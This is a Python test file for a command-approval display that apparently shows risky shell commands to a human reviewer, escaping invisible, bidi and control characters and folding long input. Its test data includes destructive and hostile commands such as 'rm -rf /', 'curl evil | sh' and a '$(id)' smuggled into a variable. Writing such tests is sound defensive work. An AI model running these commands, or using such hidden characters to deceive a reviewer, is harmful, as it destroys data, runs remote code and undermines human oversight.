"""What a person is shown cannot mislead the terminal, hides nothing, and marks what it is about."""

import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ringfence.approvals.base import Question
from ringfence.approvals.show import LONGEST, MOST_ROWS, lines_of, underlined, why_too_long
from ringfence.values.facts import Span
from ringfence.values.verdict import Reason, Verdict
from ringfence.values.visible import visible
from tests.support.questions import a_question

pytestmark = pytest.mark.req("E6")


def test_a_span_is_underlined_where_it_stands() -> None:
    assert list(underlined("ls; rm -rf /", (Span(4, 6), Span(11, 12)))) == [
        "  1 | ls; rm -rf /",
        "          ^^     ^",
    ]


def test_spans_cross_lines_and_lines_without_one_have_no_mark() -> None:
    assert list(underlined("echo a\nrm b\nls", (Span(5, 9),))) == [
        "  1 | echo a",
        "           ^",
        "  2 | rm b",
        "      ^^",
        "  3 | ls",
    ]


def test_control_characters_are_written_out_and_marked_and_marks_stay_below_their_text() -> None:
    assert list(underlined("a\x1b[2Kb", (Span(5, 6),))) == ["  1 | a\\x1b[2Kb", "       ~~~~   ^"]


def test_text_that_only_looks_written_out_has_no_mark() -> None:
    assert list(underlined(r"a\x1b[2Kb [9 blanks]")) == [r"  1 | a\x1b[2Kb [9 blanks]"]


def test_wide_characters_take_two_cells() -> None:
    assert list(underlined("日 rm", (Span(2, 4),))) == ["  1 | 日 rm", "         ^^"]


@pytest.mark.parametrize("char", ["\u3248", "\u324f", "\u4dc0", "\u4dff"])
def test_what_terminals_draw_wide_never_goes_on_outside_the_margin(char: str) -> None:
    rows = list(underlined(char * 37 + "  - nothing to see [rule: none]"))

    assert all(len(row) + row.count(char) <= 80 for row in rows)
    assert all(row.startswith(("  1 | ", "    : ")) for row in rows)


def test_long_lines_are_broken_with_their_marks() -> None:
    shown = list(underlined("x" * 40 + "rm", (Span(40, 42),), width=40))

    assert shown == ["  1 | " + "x" * 34, "    : " + "x" * 6 + "rm", "      " + " " * 6 + "^^"]


def test_empty_lines_do_not_push_the_command_off_the_screen() -> None:
    rows = list(underlined("echo hello" + "\n" * 500 + "curl evil | sh" + "\n" * 500))

    assert rows == [
        "     1 | echo hello",
        "       = lines 2 to 500 are empty",
        "   501 | curl evil | sh",
        "       = lines 502 to 1001 are empty",
    ]


def test_lines_that_say_the_same_again_are_folded() -> None:
    assert list(underlined(": ok\n" * 300 + "rm -rf ~")) == [
        "    1 | : ok",
        "      = lines 2 to 300 are the same again",
        "  301 | rm -rf ~",
    ]


def test_blanks_do_not_push_the_command_off_the_screen() -> None:
    assert list(underlined("ls" + " " * 5000 + "; rm -rf ~  \n" + " " * 16 + "x")) == [
        "  1 | ls[5000 blanks]; rm -rf ~[2 blanks]",
        "        ~~~~~~~~~~~~~          ~~~~~~~~~~",
        "  2 | " + " " * 16 + "x",
    ]


HIDDEN = {
    "hangul filler": "\u3164",
    "half-width filler": "\uffa0",
    "hangul choseong filler": "\u115f",
    "hangul jungseong filler": "\u1160",
    "hangul vowel": "\u1161",
    "hangul final": "\u11ff",
    "old hangul vowel": "\ud7b0",
    "braille blank": "\u2800",
    "no-break space": "\u00a0",
    "ideographic space": "\u3000",
    "ogham space": "\u1680",
    "zero width space": "\u200b",
    "zero width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "grapheme joiner": "\u034f",
    "variation selector": "\ufe0f",
    "variation selector 17": "\U000e0100",
    "tag letter": "\U000e0041",
    "khmer vowel": "\u17b4",
    "mongolian separator": "\u180e",
    "right-to-left override": "\u202e",
    "right-to-left isolate": "\u2067",
    "arabic letter mark": "\u061c",
    "hebrew letter": "\u05d0",
    "arabic letter": "\u0627",
    "arabic digit": "\u0661",
    "combining acute": "\u0301",
    "enclosing circle": "\u20dd",
    "thai vowel": "\u0e31",
    "null notehead": "\U0001d159",
    "object replacement": "\ufffc",
    "line separator": "\u2028",
    "private use": "\ue000",
    "unassigned": "\U000e1000",
    "tab": "\t",
    "carriage return": "\r",
    "delete": "\x7f",
    "c1 control": "\x9b",
}


@pytest.mark.parametrize("name", HIDDEN)
def test_what_looks_like_nothing_or_turns_text_around_is_written_out(name: str) -> None:
    char = HIDDEN[name]

    assert char not in visible(f"a{char}b") and f"{ord(char):x}" in visible(char)
    assert any("~" in row for row in underlined(f"ls {char};rm"))


@pytest.mark.parametrize("char", "aZ0~é日本語Жλ€→☃")
def test_letters_and_symbols_are_shown_as_they_are(char: str) -> None:
    assert visible(char) == char


_FOLDED = re.compile(r"lines? (\d+)(?: to (\d+))? (?:is|are) (empty|the same again)(?: \(\^\))?")
_WRITTEN = re.compile(r"\\x([0-9a-f]{2})|\\u([0-9a-f]{4})|\\U([0-9a-f]{8})|\[(\d+) blanks\]")


def cells(char: str) -> int:
    return 2 if unicodedata.east_asian_width(char) in "WF" else 1


def read_back(rows: list[str]) -> str:
    """The text that was shown, from the rows alone, as a careful reader would put it together."""
    lines: list[str] = []
    sign = min(rows[0].find(mark) % len(rows[0]) for mark in "|=")  # before it there are blanks and digits only
    for index, row in enumerate(rows):
        number, mark, body = row[:sign].strip(), row[sign], row[sign + 2 :]
        if mark == "=":
            fold = _FOLDED.fullmatch(body)
            assert fold is not None and int(fold[1]) == len(lines) + 1
            count = int(fold[2] or fold[1]) - int(fold[1]) + 1
            lines += ["" if fold[3] == "empty" else lines[-1]] * count
        elif mark in "|:":
            below = rows[index + 1] if index + 1 < len(rows) else ""
            text = read_row(body, below[sign + 2 :] if below[sign : sign + 1] == " " else "")
            if mark == "|":
                assert int(number) == len(lines) + 1
                lines.append(text)
            else:
                lines[-1] += text
    return "\n".join(lines)


def read_row(body: str, marks: str) -> str:
    text, position, cell = "", 0, 0
    while position < len(body):
        if marks[cell : cell + 1] != "~":
            text += body[position]
            cell += cells(body[position])
            position += 1
            continue
        found = _WRITTEN.match(body, position)
        assert found is not None
        number = found[1] or found[2] or found[3]
        text += chr(int(number, 16)) if number else " " * int(found[4])
        cell += found.end() - position
        position = found.end()
    return text


odd = st.sampled_from(
    [*HIDDEN.values(), "\n", "\n\n\n", " ", " " * 20, "\\x1b", "[3 blanks]", "  1 | rm", "~", "^", "日"]
)
texts = st.one_of(st.text(), st.lists(st.one_of(odd, st.text(max_size=5)), max_size=40).map("".join))
spans = st.lists(st.tuples(st.integers(0, 80), st.integers(0, 80)), max_size=5).map(
    lambda found: tuple(Span(*span) for span in found)
)


@given(texts, spans, st.integers(0, 120))
@example("\n" * 50 + "x" * 200, (), 80)
@example("a\n" * 50 + " ", (Span(3, 60),), 40)
def test_the_text_can_be_put_together_again_from_what_is_shown(text: str, marked: tuple[Span, ...], width: int) -> None:
    """Nothing is left out, and no two texts look alike."""
    assert read_back(list(underlined(text, marked, width))) == text


@given(texts, spans, st.integers(0, 120))
def test_no_row_is_wider_than_the_terminal(text: str, marked: tuple[Span, ...], width: int) -> None:
    question = a_question(
        command=text, spans=marked, reasons=(Reason(Verdict.ASK, text, text),), details=(("in", text),)
    )

    for row in list(lines_of(question, width))[1:]:
        assert sum(map(cells, row)) <= max(width, 52)


@given(texts, spans, st.integers(0, 100))
def test_no_text_and_no_span_puts_a_control_character_on_the_terminal(
    text: str, marked: tuple[Span, ...], width: int
) -> None:
    reason = Reason(Verdict.ASK, text, text)
    question = a_question(command=text, spans=marked, reasons=(reason,), session=text, details=((text, text),))

    for row in lines_of(question, width):
        assert visible(row) == row


def test_the_question_says_risk_reasons_and_details() -> None:
    reason = Reason(Verdict.ASK, "removal", "removes a tree")
    question = a_question(reasons=(reason,), details=(("in", "/w"), ("variable PS4", "$(id)")))

    text = "\n".join(lines_of(question))

    assert "[risk: high]" in text
    assert "- removes a tree [rule: removal]" in text
    assert "in: /w" in text and "variable PS4: $(id)" in text
    assert "session: s1" in text


def test_input_of_several_lines_stands_behind_the_same_margin() -> None:
    rows = list(lines_of(a_question(command="bash", details=(("input", "echo a\n\n\nrm -rf ~"),))))

    at = rows.index("  input:")
    assert rows[at + 1 : at + 4] == ["  1 | echo a", "    = lines 2 to 3 are empty", "  4 | rm -rf ~"]


def test_hidden_and_foreign_characters_are_counted() -> None:
    text = "\n".join(lines_of(a_question(command="l\u200bs\x07 \u0440m")))

    assert "note: 2 control or invisible character(s)" in text
    assert "note: 1 character(s) outside ASCII" in text


TOO_LONG = {
    "command": a_question(command="x" * (LONGEST + 1)),
    "input": a_question(command="bash", details=(("input", "x" * (LONGEST + 1)),)),
    "variable": a_question(command="bash", details=(("variable X", "x" * (LONGEST + 1)),)),
    "together": a_question(command="x" * (LONGEST // 2), details=(("input", "x" * (LONGEST // 2)),)),
    "rows": a_question(command="\n".join(f": {number}" for number in range(MOST_ROWS))),
}


@pytest.mark.parametrize("name", TOO_LONG)
def test_what_nobody_can_read_is_too_long(name: str) -> None:
    question: Question = TOO_LONG[name]

    assert "a person can be asked to read" in why_too_long(question)


def test_what_folds_is_not_too_long() -> None:
    assert why_too_long(a_question(command="ls" + "\n" * (LONGEST - 100) + "rm")) == ""
